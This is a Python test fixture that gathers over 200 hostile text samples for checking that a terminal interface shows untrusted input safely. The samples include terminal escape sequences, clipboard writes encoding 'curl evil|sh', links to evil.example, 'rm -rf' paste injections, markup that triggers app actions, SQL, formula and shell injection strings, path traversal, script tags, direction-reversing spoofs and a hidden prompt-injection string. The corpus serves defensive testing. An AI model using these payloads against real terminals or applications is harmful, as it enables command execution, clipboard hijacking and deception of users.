"""Text that strangers send: what a customer, a supplier, a scanner or a file may put where we show it.

`CORPUS` holds more than 200 of them by kind, after SAFETY 2.1. None may move the cursor of a terminal, run an action,
change the frame of a page, or hide what stands beside it.
"""

_SEQUENCES = (
    "\x1b[2J", "\x1b[H", "\x1b[1;1Hpaid", "\x1b[31mred", "\x1b[7m", "\x1b[8mhidden", "\x1b[?1049l",
    "\x1b[?25l", "\x1b[?1000h", "\x1b[?1003h", "\x1b[?2004l", "\x1b[?7h", "\x1b[?5h", "\x1b[6n", "\x1b[c",
    "\x1b[>c", "\x1b[5n", "\x1b[18t", "\x1b[21t", "\x1b[20;1t", "\x1b[3;1r", "\x1b[201~", "\x1b[200~rm -rf",
    "\x1b[4h", "\x1b[12l", "\x1b[0J", "\x1b[1K", "\x1b[99A", "\x1b[99B", "\x1b[9999C", "\x1b[10L", "\x1b[10M",
    "\x1b[10@", "\x1b[10P", "\x1b[s", "\x1b[u", "\x1b[!p", "\x1b[1 q", "\x1b[>4;2m", "\x1b[=1u",
    "\x1b[38;2;0;0;0m", "\x1bc", "\x1b#8", "\x1b(0", "\x1b)0", "\x1b7", "\x1b8", "\x1bD", "\x1bE", "\x1bM",
    "\x1bN", "\x1bO", "\x1bZ", "\x1b=", "\x1b>", "\x1b", "end\x1b", "\x1b[", "\x1b[38;5", "\x1b\x1b[2J",
)  # fmt: skip
"""CSI and single sequences, whole and cut off."""
_STRINGS = (
    "\x1b]0;owned\x07", "\x1b]2;owned\x1b\\", "\x1b]4;0;#ffffff\x07",
    "\x1b]8;;https://evil.example\x07pay here\x1b]8;;\x07", "\x1b]9;ding\x07", "\x1b]10;?\x07",
    "\x1b]11;?\x07", "\x1b]50;font\x07", "\x1b]52;c;Y3VybCBldmlsfHNo\x07", "\x1b]52;p;Y3VybA==\x1b\\",
    "\x1b]104\x07", "\x1b]133;A\x07", "\x1b]777;notify;a;b\x07", "\x1b]1337;File=:QQ==\x07",
    "\x1bP+q544e\x1b\\", "\x1bP$qm\x1b\\", "\x1bPq#0;2;0;0;0~\x1b\\", "\x1b_Ga=T,f=24;AAAA\x1b\\",
    "\x1b^private\x1b\\", "\x1bX start of string\x1b\\", "\x1b]0;no end", "\x1bPno end", "\x1b_no end",
)  # fmt: skip
"""OSC, DCS, APC, PM and SOS, some without their end."""
_EIGHT_BIT = (
    "\x9b2J", "\x9b6n", "\x9d52;c;Y3VybA==\x9c", "\x9d0;owned\x07", "\x90+q544e\x9c", "\x9fGa\x9c",
    *(f"next{chr(code)}line" for code in (0x84, 0x85, 0x88, 0x8D, 0x8E, 0x8F, 0x98, 0x9A, 0x9C, 0x9E)),
)  # fmt: skip
"""The same with one character of C1 in the place of two."""
_CONTROLS = (
    *(f"one{chr(code)}two" for code in (*range(1, 32), 0x7F)), "a\r\nb", "a\n\n\nb", "\b" * 30, "\t" * 12,
)  # fmt: skip
"""Each control character but NUL, which no database keeps."""
_TURNED = (*(f"ab{chr(code)}cd gpj.exe" for code in (
    0x061C, 0x200E, 0x200F, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069,
)), "\u202e\u202d\u202e1,000.00", "שלום עולם", "مرحبا بالعالم", "abc עברית 123", "\u2067\u2066" * 60)  # fmt: skip
"""Marks that turn the direction, and languages that run from right to left."""
_HIDDEN = (*(f"pay{chr(code)}pal" for code in (
    0x00AD, 0x034F, 0x115F, 0x1160, 0x17B4, 0x180B, 0x180E, 0x200B, 0x200C, 0x200D, 0x2028, 0x2029, 0x2060,
    0x2061, 0x2063, 0x206A, 0x206F, 0x3164, 0xFE00, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFB, 0xFFFE, 0xFDD0,
    0xE0001, 0xE0041, 0xE007F, 0xE0100, 0x1D173, 0x1BCA0, 0x13430, 0x0600, 0x06DD, 0x070F,
)), "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all that"), "\u200b" * 200)  # fmt: skip
"""Characters that are not seen: zero width, fillers, tags, selectors, non-characters."""
_MARKUP = (
    "[@click=app.leave]free[/]", "[@click=app.quit()]free[/]", "[@click=app.refund(500)]x[/]",
    "[@click=app.refund(500)))", "[@click=app.bell]ding[/]", "[@click=app.simulate_key('f9')]x[/]",
    "[@click=app.screenshot('a.svg','/')]x[/]", "[@click=screen.do('cancel_order')]x[/]",
    "[@click='app.leave']x[/]", "[@ click=app.leave]x[/]", "[/]", "[/bold]", "[/b][/b]", "[b]bold",
    "[red]red[/red]", "[on red]red[/]", "[reverse]x[/]", "[blink]x[/]", "[hide]x[/]", "[#zzzzzz]x[/]",
    "[foo=]x", "[link=https://evil.example]x[/link]", '[link="https://evil.example"]x[/]', "[link=]x[/]",
    r"\[b]x", "[[b]]x", "[", "]", "[]", "[ ]", "[/", "[@", "[@click", "[1, 2, 3]", "[$error]x[/]", "[b",
    ":smile: :x:", "[not italic]x", "[$]x", "[link]x",
)  # fmt: skip
"""What Rich, Textual's Content and their relatives read as markup."""
_FILLED = (
    "{number}", "{0}", "{}", "{number.__class__.__mro__}", "{actor!r:>999999}", "{{number}}", "{", "}",
    "%s%n%(name)s", "$name ${name}", "`reboot` $(reboot)", "'; DROP TABLE orders; --", '" OR 1=1 --',
    "NEAR(a b, 2) AND NOT *", "'\"\\", "=cmd|'/c calc'!A1", "+1+1", "@SUM(1)", "-2+3", "＝1+1",
    "../../etc/passwd", "C:\\..\\boot.ini", "<script>alert(1)</script>", "&amp;&#27;[2J", "%1b[2J", "\\x1b[2J",
    "^[[2J", "null", "None", "true", "NaN", "1e309", "-0", "0x1b",
)  # fmt: skip
"""Place holders, commands, formulas, and words that some languages take for values."""
_WIDE = (
    "林登生活的亚麻被套", "ｆｕｌｌ　ｗｉｄｔｈ", "👨‍👩‍👧‍👦 family", "👍🏿 thumb", "🇹🇼🇩🇪 flags",
    "1️⃣ keycap", "❤️ heart", "🏴󠁧󠁢󠁥󠁮󠁧󠁿 tag flag", "क्षि नमस्ते", "ไทยนี้", "ཨོཾ", "한글 ㅎㅏㄴ", "각각",
    "ﷺ ﷽", "𒐫 wide", "── ●▲■×…→ ①", "é é", "ﬃ ﬀ", "🫩 of a newer Unicode", "\U0001f468\u200d", "漢" * 300,
)  # fmt: skip
"""Letters of two cells, and those that terminals and tables disagree about."""
_LARGE = (
    "Z" * 5_000, " " * 3_000 + "end", "e" + "\u0301" * 500,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘", "\u20dd" * 40, "word " * 800, "", " ",
    "\u3000", "́ first a mark",
)  # fmt: skip
"""Too long, too many marks, or nothing at all."""

CORPUS: dict[str, tuple[str, ...]] = {
    "sequence": _SEQUENCES,
    "string": _STRINGS,
    "eight bit": _EIGHT_BIT,
    "control": _CONTROLS,
    "turned": _TURNED,
    "hidden": _HIDDEN,
    "markup": _MARKUP,
    "filled": _FILLED,
    "wide": _WIDE,
    "large": _LARGE,
}
ALL: tuple[str, ...] = tuple(text for kind in CORPUS.values() for text in kind)


class Words:
    """Hostile texts in turn, or the plain ones that they are compared with."""

    def __init__(self, hostile: bool, start: int = 0):
        self.hostile, self.next = hostile, start

    def __call__(self, name: str) -> str:
        """A text for a place of that name; each text of a store is another, as unique columns want it."""
        self.next += 1
        if not self.hostile:
            return f"{name} {self.next}"
        return f"{ALL[self.next % len(ALL)]}{self.next if self.next >= len(ALL) else ''}"
